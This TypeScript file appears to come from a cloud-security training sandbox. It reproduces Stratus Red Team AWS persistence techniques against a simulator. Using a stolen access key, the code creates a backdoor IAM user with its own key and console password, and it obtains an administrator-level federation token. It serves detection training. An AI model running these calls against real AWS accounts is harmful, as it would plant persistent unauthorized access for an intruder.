// The sandbox's attacker on AWS: what Stratus Red Team's techniques do with a stolen access key, as plain SDK calls
// against the simulator (which records each in its CloudTrail). `npm start` detonates them once for the tour, so the
// sample alert's sweep has a backdoor to find.
import {
  CreateAccessKeyCommand,
  CreateLoginProfileCommand,
  CreateUserCommand,
  GetUserCommand,
  IAMClient,
  NoSuchEntityException,
} from '@aws-sdk/client-iam';
import { GetFederationTokenCommand, STSClient } from '@aws-sdk/client-sts';

export interface StolenKey {
  accessKeyId: string;
  secretAccessKey: string;
  sessionToken?: string;
}

const config = (endpoint: string, credentials: StolenKey) => ({
  endpoint,
  region: 'us-east-1',
  credentials,
  maxAttempts: 2,
});

/** aws.persistence.iam-backdoor-user: a user of the attacker's own, with an access key and a console password. */
export async function backdoorUser(
  endpoint: string,
  stolen: StolenKey,
  userName: string,
): Promise<{ userName: string; accessKeyId: string; secretAccessKey: string; password: string }> {
  const iam = new IAMClient(config(endpoint, stolen));
  await iam.send(new CreateUserCommand({ UserName: userName }));
  const { AccessKey } = await iam.send(new CreateAccessKeyCommand({ UserName: userName }));
  // Stratus sets a random password; the trail never shows it.
  const password = `P-${Math.random().toString(36).slice(2)}-${Date.now().toString(36)}!`;
  await iam.send(new CreateLoginProfileCommand({ UserName: userName, Password: password }));
  return {
    userName,
    accessKeyId: AccessKey?.AccessKeyId ?? '',
    secretAccessKey: AccessKey?.SecretAccessKey ?? '',
    password,
  };
}

/** aws.persistence.sts-federation-token: a federation session with AdministratorAccess, outliving the key. */
export async function federationToken(endpoint: string, stolen: StolenKey, name = 'persist'): Promise<StolenKey> {
  const { Credentials } = await new STSClient(config(endpoint, stolen)).send(
    new GetFederationTokenCommand({
      Name: name,
      DurationSeconds: 43_200,
      PolicyArns: [{ arn: 'arn:aws:iam::aws:policy/AdministratorAccess' }],
    }),
  );
  return {
    accessKeyId: Credentials?.AccessKeyId ?? '',
    secretAccessKey: Credentials?.SecretAccessKey ?? '',
    sessionToken: Credentials?.SessionToken ?? '',
  };
}

/**
 * The tour's detonation, once per sandbox state: the stolen key plants `userName` and mints a federation token,
 * unless an earlier start did (the responder looks the user up first). Says whether it planted anything.
 */
export async function detonateOnce(
  endpoint: string,
  stolen: StolenKey,
  responder: StolenKey,
  userName: string,
): Promise<boolean> {
  try {
    await new IAMClient(config(endpoint, responder)).send(new GetUserCommand({ UserName: userName }));
    return false;
  } catch (error) {
    if (!(error instanceof NoSuchEntityException)) throw error;
  }
  await backdoorUser(endpoint, stolen, userName);
  await federationToken(endpoint, stolen);
  return true;
}
